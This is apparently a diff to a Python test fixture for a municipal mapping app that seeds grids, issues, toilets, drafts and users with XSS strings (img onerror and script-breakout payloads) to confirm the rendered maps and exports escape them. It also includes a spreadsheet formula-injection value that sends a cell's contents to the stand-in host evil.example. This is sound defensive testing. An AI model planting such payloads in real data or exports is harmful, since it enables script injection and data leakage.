@@ -8,7 +8,7 @@ template literal Folium writes tooltips and popups into. Each one, if it ran, wo
 every text field a user or an import can set.
 """
 
-from dataclasses import dataclass, field
+from dataclasses import dataclass
 
 import geopandas as gpd
 import pandas as pd
@@ -28,6 +28,9 @@ PAYLOAD = ('N"><img src=x onerror="window.__xss=1">'
 LIVE = ("<img src=x onerror", "<script>window.__xss", "</script><script>")
 #: A formula a spreadsheet would run: it sends the neighbouring cell to another server.
 FORMULA = '=HYPERLINK("http://evil.example/?leak="&B2,"x")'
+#: The issue's reference and the toilet's name (a formula too).
+REF = 'R<img src=x onerror="window.__xss=4">'
+TOILET_NAME = FORMULA + PAYLOAD
 #: The grid, street and community that hold the payload.
 GRID = code(2)
 STREET = f"{DISTRICT}001000000"
@@ -45,7 +48,6 @@ class World:
     toilet: str
     draft: int
     user: str
-    fields: dict = field(default_factory=dict)
 
 
 def hostile_world(db, settings, tmp_path):
@@ -58,12 +60,12 @@ def hostile_world(db, settings, tmp_path):
     """
     layout = grid_layout()
     row = layout["code"] == GRID
-    layout.loc[row, "name"] = text("grid")
-    layout.loc[row, "leader"] = text("leader")
-    layout.loc[row, "departments"] = text("dept") + "、区住建局"
+    layout.loc[row, "name"] = text("grid name")
+    layout.loc[row, "leader"] = text("grid leader")
+    layout.loc[row, "departments"] = text("grid department") + "、区住建局"
     whole = layout.geometry.union_all()
     parents = gpd.GeoDataFrame(
-        {"code": [STREET, COMMUNITY], "name": [text("street"), text("community")],
+        {"code": [STREET, COMMUNITY], "name": [text("street name"), text("community name")],
          "leader": [text("street leader"), text("community leader")],
          "departments": ["", ""], "population": [0, 0]},
         geometry=[whole, whole], crs=layout.crs)
@@ -72,18 +74,18 @@ def hostile_world(db, settings, tmp_path):
     grids.import_grids(db, settings, tmp_path / "hostile-grids.geojson")
     lon, lat = xy(2.5, 2.5)
     issue = issues.create_issue(db, settings, {
-        "ref": "R<img src=x onerror=\"window.__xss=4\">", "category": "07001",
+        "ref": REF, "category": "07001",
         "lon": lon, "lat": lat, "status": "filed", "reported_at": "2026-11-27 10:00",
-        "description": text("description"), "address": text("address")})
+        "description": text("issue description"), "address": text("issue address")})
     lon, lat = xy(3.5, 3.5)
     toilet = toilets.create_toilet(db, settings, {
-        "code": "CS-1", "kind": "public", "lon": lon, "lat": lat, "name": FORMULA + PAYLOAD,
+        "code": "CS-1", "kind": "public", "lon": lon, "lat": lat, "name": TOILET_NAME,
         "address": text("toilet address"), "original_type": "dry_latrine",
-        "status": "planned"}, actor=text("actor"))["code"]
+        "status": "planned"}, actor=text("toilet actor"))["code"]
     toilets.update_toilet(db, settings, toilet, {"heating": True},
-                          actor=text("actor"), note=text("toilet note"))
-    draft = versions.create_draft(db, label=text("draft"), note=text("draft note"))
+                          actor=text("toilet actor"), note=text("toilet note"))
+    draft = versions.create_draft(db, label=text("draft label"), note=text("draft note"))
     login = "hostile"
-    users.create_user(db, login, text("user"), ["admin"], accounts.PASSWORD,
-                      phone=text("phone"), actor="tests")
+    users.create_user(db, login, text("user name"), ["admin"], accounts.PASSWORD,
+                      phone=text("user phone"), actor="tests")
     return World(issue=issue, toilet=toilet, draft=draft, user=login)
